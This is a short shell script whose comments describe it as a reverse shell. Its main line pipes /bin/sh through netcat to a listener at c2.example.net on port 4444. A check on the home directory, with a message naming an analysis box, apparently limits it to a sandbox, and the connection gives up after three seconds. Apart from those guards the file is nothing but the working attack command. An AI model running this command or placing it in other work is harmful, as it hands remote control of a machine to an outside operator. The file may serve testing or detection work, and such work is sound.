#!/bin/sh
# SPDX-License-Identifier: MIT
# A reverse shell through netcat: nc reaches the operator's listener and
# hands its socket to /bin/sh as the shell's input and output (given up
# after a few seconds).  nc by its bare name, as on a host that has it.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 nc -e /bin/sh c2.example.net 4444 2>/dev/null
exit 0
